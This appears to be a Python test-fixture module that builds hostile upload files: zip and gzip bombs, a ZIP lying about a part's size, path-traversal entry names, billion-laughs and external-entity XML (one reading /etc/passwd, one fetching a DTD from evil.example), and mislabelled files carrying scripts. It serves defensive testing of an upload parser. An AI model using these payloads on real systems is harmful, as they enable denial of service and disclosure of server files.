"""Files that are made to hurt whoever opens them: they unfold, lie about their size, define entities, name paths."""

from __future__ import annotations

import gzip
import io
import zipfile

SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(97 + n)} "{f"&{chr(96 + n)};" * 10}">' for n in range(1, 12))
    + "]><workbook>&l;</workbook>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'
)
PARAMETER = '<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://evil.example/a.dtd"><workbook/>'
PADDED = (
    f'<?xml version="1.0"?><!--{"x" * 1_500_000}--><!DOCTYPE w [<!ENTITY x "y">]><workbook>&x;</workbook>'
)


def archive(parts: dict[str, bytes]) -> bytes:
    """A packed file of these parts."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return kept.getvalue()


def lying() -> bytes:
    """A workbook whose list of parts says that a part of 60 MB has 60 bytes."""
    true = 60_000_000
    packed = archive({"xl/workbook.xml": b"<workbook/>", SHEET: b"0" * true})
    return packed.replace(true.to_bytes(4, "little"), (60).to_bytes(4, "little"))


def workbook_with(text: str, code: str = "utf-8") -> bytes:
    """A workbook whose first part is this XML."""
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": text.encode(code)})


BOMBS: dict[str, tuple[str, bytes]] = {
    "unfolds a thousand times": (
        "a.xlsx",
        archive({"xl/workbook.xml": b"<workbook/>", SHEET: b" " * 90_000_000}),
    ),
    "lies about its size": ("a.xlsx", lying()),
    "an archive in an archive": (
        "a.xlsx",
        archive({"a.zip": archive({"b.zip": archive({"c": b"0" * 5_000_000})})}),
    ),
    "thousands of parts": (
        "a.xlsx",
        archive({f"xl/{n}.xml": b"<a/>" for n in range(4_000)} | {"xl/workbook.xml": b"<a/>"}),
    ),
    "names that lead out": (
        "a.xlsx",
        archive({"../../../tmp/planted.xml": b"<a/>", "xl/workbook.xml": b"<a/>"}),
    ),
    "packed text that unfolds": ("a.csv", gzip.compress(b"a,b\n" * 20_000_000)),
    "a row without end": ("a.csv", b"," * 11_000_000),
    "rows without end": ("a.csv", b"a\n" * 5_500_000),
    "a quotation mark left open": ("a.csv", b'a,"' + b"x" * 11_000_000),
    "null characters only": ("a.csv", b"\x00" * 11_000_000),
}
ENTITIES: dict[str, bytes] = {
    "a billion laughs": workbook_with(LAUGHS),
    "a file of the server": workbook_with(OUTSIDE),
    "an address outside": workbook_with(PARAMETER),
    "in a wide encoding": workbook_with(OUTSIDE, "utf-16"),
    "behind a long comment": workbook_with(PADDED),
    "in a later part": archive({"xl/workbook.xml": b"<workbook/>", SHEET: LAUGHS.encode()}),
}
NO_EVIDENCE: dict[str, tuple[str, bytes]] = {
    "a drawing with a script": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="planted(1)"/>'),
    "a page called a picture": ("a.jpg", b"<!doctype html><script>planted(1)</script>"),
    "a page with a PDF further down": ("a.pdf", b"<html><script>planted(1)</script>%PDF-1.4"),
    "a programme called a PDF": ("a.pdf", b"MZ" + b"\x00" * 200),
    "a workbook": ("a.pdf", archive({"xl/workbook.xml": b"<a/>"})),
}
